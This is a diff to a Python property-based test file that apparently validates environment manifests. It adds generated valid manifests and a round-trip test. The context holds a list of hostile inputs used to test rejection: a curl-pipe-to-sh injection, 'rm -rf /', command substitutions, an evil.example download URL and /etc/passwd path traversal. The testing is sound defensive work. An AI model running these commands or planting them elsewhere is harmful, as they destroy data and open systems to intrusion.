@@ -17,7 +17,8 @@ from envrepro.sandbox import plan
 from fakes import make_capture
 
 H = "a" * 64
-PROPS = settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
+PROPS = settings(max_examples=150, deadline=None, derandomize=True, database=None,
+                 suppress_health_check=list(HealthCheck))
 HOSTILE = ["1.2.3\nFROM evil AS x\nRUN curl x|sh", "x'; rm -rf / #", "$(touch /tmp/pwn)", "`id`",
            "https://evil.example/x.whl", "../../etc/passwd", "/etc/passwd", "a b", "\x00", "tight",
            "3.8.18 ", "file:///etc/passwd", "x\r\ny"]
@@ -167,6 +168,38 @@ def _paths(data, prefix=()):
 
 
 ALL_PATHS = [p for p in _paths(VALID) if p]
+
+
+segments = st.from_regex(r"\A[A-Za-z0-9_][A-Za-z0-9_.-]{0,12}\Z").filter(lambda p: ".." not in p)
+valid_manifests = st.fixed_dictionaries({
+    "python_version": st.from_regex(r"\A[0-9]{1,2}\.[0-9]{1,2}\.[0-9]{1,2}(rc[0-9])?\Z"),
+    "tf": st.from_regex(r"\A[0-9]{1,2}\.[0-9]{1,2}\.[0-9]{1,2}\Z"),
+    "top": st.lists(st.from_regex(r"\A[a-z][a-z0-9]{0,8}(-[a-z0-9]{1,5})?\Z"), max_size=4),
+    "env": st.dictionaries(st.sampled_from(sorted(schema.ENV_ALLOWED)),
+                           st.one_of(st.none(), st.from_regex(r"\A[A-Za-z0-9_.]{0,10}\Z")), max_size=2),
+    "tol": st.tuples(st.floats(0, 1), st.floats(0, 1)),
+    "inputs": st.lists(segments.map(lambda p: f"reference/{p}.npy"), min_size=1, max_size=3),
+    "files": st.dictionaries(st.lists(segments, min_size=1, max_size=3).map("/".join),
+                             st.from_regex(r"\A[0-9a-f]{64}\Z"), max_size=4),
+    "warnings": st.lists(st.text(max_size=40), max_size=3),
+})
+
+
+@PROPS
+@given(gen=valid_manifests)
+def test_generated_valid_manifests_pass_and_round_trip(gen):
+    data = copy.deepcopy(VALID)
+    data["python"]["version"] = gen["python_version"]
+    data["frameworks"]["tensorflow"] = gen["tf"]
+    data["lock"]["top_level"] = gen["top"]
+    data["env"] = gen["env"]
+    data["reference"]["tolerance"] = {"atol": gen["tol"][0], "rtol": gen["tol"][1]}
+    data["reference"]["inputs"] = gen["inputs"]
+    data["files"] = gen["files"]
+    data["warnings"] = [w for w in gen["warnings"] if "\x00" not in w]
+    assert schema.check(data, "x") is data
+    again = yaml.safe_load(manifest.dump(data))
+    assert again == data and schema.check(again, "x") == data
 
 
 @PROPS
